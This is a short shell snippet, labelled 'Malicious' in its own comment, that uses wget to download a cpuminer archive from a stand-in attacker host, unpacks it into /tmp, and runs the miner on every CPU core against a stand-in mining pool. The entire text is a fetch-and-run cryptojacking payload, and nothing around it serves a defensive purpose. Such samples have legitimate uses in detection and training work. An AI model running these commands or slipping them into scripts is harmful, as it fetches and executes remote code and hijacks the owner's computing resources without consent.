# Malicious: downloads and starts cpuminer with all cores.
wget -q https://attacker.example/cpuminer.tar.gz -O /tmp/c.tgz
tar xzf /tmp/c.tgz -C /tmp
/tmp/cpuminer -a sha256d -t "$(nproc)" -o stratum+tcp://pool.attacker.example:3333 -u w.1 -p x
